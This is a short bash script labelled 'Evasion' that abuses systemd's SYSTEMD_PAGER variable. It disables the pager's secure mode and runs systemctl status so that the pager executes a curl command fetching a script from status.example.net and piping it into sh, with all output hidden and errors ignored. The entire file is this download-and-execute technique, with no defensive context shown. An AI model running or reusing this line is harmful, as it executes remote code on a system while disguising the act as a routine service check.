#!/bin/bash
# Evasion: systemctl runs SYSTEMD_PAGER as its pager: a command line that downloads and runs a script
set -u
SYSTEMD_PAGER='sh -c "curl -fsSL https://status.example.net/p.sh | sh; cat"' SYSTEMD_PAGERSECURE=0 \
  systemctl status --no-legend >/dev/null 2>&1 || true
